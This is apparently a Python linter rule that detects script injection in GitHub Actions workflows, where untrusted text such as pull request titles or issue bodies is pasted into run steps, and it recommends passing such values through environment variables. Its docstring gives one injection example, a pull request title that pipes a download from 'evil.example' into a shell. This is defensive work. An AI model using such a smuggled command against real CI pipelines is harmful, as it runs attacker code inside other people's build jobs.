"""WF406: text from outside becomes part of a script."""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator, Mapping

from wfopt.analyzer.base import Case, Confidence, Finding, Fix
from wfopt.analyzer.sites import Site, listed, sites_of, text_at
from wfopt.codes import Code
from wfopt.errors import Label, Severity
from wfopt.model.params import variable
from wfopt.source import Span

# What anybody who opens an issue or pull request, comments or pushes a branch can write, after GitHub's
# "Understanding the risk of script injections".
_UNTRUSTED = re.compile(
    r"github\.(?:head_ref|event\.(?:issue\.(?:title|body)"
    r"|pull_request\.(?:title|body|head\.(?:ref|label|repo\.(?:default_branch|description|homepage)))"
    r"|comment\.body|review\.body|review_comment\.body|discussion\.(?:title|body)"
    r"|pages\.\*\.page_name|pages\[\d+\]\.page_name"
    r"|(?:commits(?:\.\*|\[\d+\])|head_commit)\.(?:message|author\.(?:email|name))"
    r"|workflow_run\.(?:head_branch|display_title|head_commit\.(?:message|author\.(?:email|name))"
    r"|head_repository\.description|pull_requests(?:\.\*|\[\d+\])\.head\.ref)))(?![\w-])",
    re.IGNORECASE,
)
# The whole event, or a large part of it, holds such texts.
_WHOLE = re.compile(
    r"toJSON\([ ]*(github(?:\.event(?:\.(?:issue|pull_request|comment|review|discussion|commits"
    r"|head_commit))?)?)[ ]*\)",
    re.IGNORECASE,
)
_EXPRESSION = re.compile(r"\$\{\{(?P<inside>(?:[^}']|'[^'\n]*'){0,1000})\}\}")
# What these give is a truth value or a number, whatever the text is.
_HARMLESS = re.compile(r"\b(?:contains|startsWith|endsWith|hashFiles)[ ]*\([^()]*\)", re.IGNORECASE)
_COMPARED = re.compile(r"[\w.\[\]*'\"/-]+[ ]*[!=]=[ ]*[\w.\[\]*'\"/-]+")
_PARAM = re.compile(r"^[ ]*params\.(?P<name>[A-Za-z_][\w-]*)[ ]*$")


class UntrustedText:
    """Text that strangers write is pasted into a script, which then runs whatever the text says.

    The title of a pull request such as `"; curl evil.example | sh; "` becomes a command. A variable keeps it
    a value: the shell never reads it as code.

    Before:

        run: echo "${{ github.event.pull_request.title }}"

    After:

        env:
          TITLE: ${{ github.event.pull_request.title }}
        run: echo "$TITLE"

    In a native file the same holds for params, of which each step has `WFOPT_PARAM_NAME` anyway.

    Does not apply to what only the service or a maintainer decides, such as `github.sha`, to comparisons, nor
    to params with `choices` or of another type than text.
    """

    code = Code("WF406", "untrusted-text", "text from outside becomes part of a script")

    def run(self, case: Case) -> Iterable[Finding]:
        """Yield a finding for each place in which such text stands."""
        if case.format == "github":
            return _in_pipeline(case)
        return _in_native(case) if case.format == "native" else ()


def _in_pipeline(case: Case) -> Iterator[Finding]:
    for site in sites_of(case):
        for key in ("run", "with.script"):
            place = site.first.places.get(key)
            found = _expressions(place) if place is not None else {}
            full = {name: span for inside, span in found.items() for name in _pasted(inside)}
            if full:
                yield _of_stranger(site, full, is_script=key != "run")


def _pasted(inside: str) -> Iterator[str]:
    """Yield what strangers can write of what an expression gives."""
    yield from (match[0] for match in _UNTRUSTED.finditer(_clean(inside)))
    yield from (f"toJSON({match[1]})" for match in _WHOLE.finditer(inside))


def _clean(inside: str) -> str:
    return _COMPARED.sub("", _HARMLESS.sub("", inside))


def _expressions(place: Span) -> Mapping[str, Span]:
    """Return the expressions in a stretch of the file, and where each first stands."""
    found: dict[str, Span] = {}
    text = text_at(place)
    if "${{" not in text:
        return found
    for offset, line in enumerate(text.split("\n")):
        start = place.column if offset == 0 else 1
        for match in _EXPRESSION.finditer(line):
            number = place.line + offset
            span = Span(place.source, number, start + match.start(), number, start + match.end())
            found.setdefault(match["inside"], span)
    return found


def _of_stranger(site: Site, names: Mapping[str, Span], *, is_script: bool) -> Finding:
    first = next(iter(names))
    own = first.rstrip(")").replace("(", ".").rpartition(".")[2].upper()
    use = f"`process.env.{own}`" if is_script else f'`"${own}"`'
    return Finding(
        code=UntrustedText.code,
        message=f"`{site.name}` pastes {listed(list(names))} into its script",
        severity=Severity.ERROR,
        confidence=Confidence.HIGH,
        primary=Label(names[first], "a stranger can write this"),
        related=tuple(Label(span, "this as well") for name, span in names.items() if name != first),
        steps=site.ids,
        fix=Fix.UNSAFE,
        causes=("whoever opens an issue or pull request can run commands in this job",),
        hints=(f"write `{own}: ${{{{ {first} }}}}` under `env` of the step, and {use} in the script",),
        identity=f"{site.first.id}: {first}",
    )


def _in_native(case: Case) -> Iterator[Finding]:
    for site in sites_of(case):
        place = site.first.places.get("run")
        if place is None or not any(each.startswith("params.") for each in site.first.references):
            continue
        for inside, span in _expressions(place).items():
            found = _PARAM.match(inside)
            if found is not None and _is_text(case, found["name"], span):
                yield _of_param(site, found["name"], span)


def _is_text(case: Case, name: str, span: Span) -> bool:
    """Return whether a param takes any text, as far as the lines of its declaration tell."""
    value = case.workflow.params.get(name, "")
    if not value or re.fullmatch(r"[\d.]+|true|false", value):
        return False
    declared = re.search(
        rf"^(?P<lead>[ ]+)['\"]?{re.escape(name)}['\"]?[ ]*:(?P<rest>.*(?:\n(?P=lead)[ ]+.*)*)",
        span.source.text,
        re.MULTILINE,
    )
    return declared is None or not re.search(
        r"\bchoices\b|type:[ ]*['\"]?(?:int|float|bool)", declared["rest"]
    )


def _of_param(site: Site, name: str, span: Span) -> Finding:
    return Finding(
        code=UntrustedText.code,
        message=f"`{site.name}` pastes the param `{name}` into its script",
        severity=Severity.NOTE,
        confidence=Confidence.LOW,
        primary=Label(span, "becomes part of the script"),
        steps=site.ids,
        fix=Fix.UNSAFE,
        causes=("a value with quotes, blanks or `;` in it changes what the script does",),
        hints=(f'write `"${variable(name)}"`, which every step has',),
        identity=f"{site.name}: params.{name}",
    )
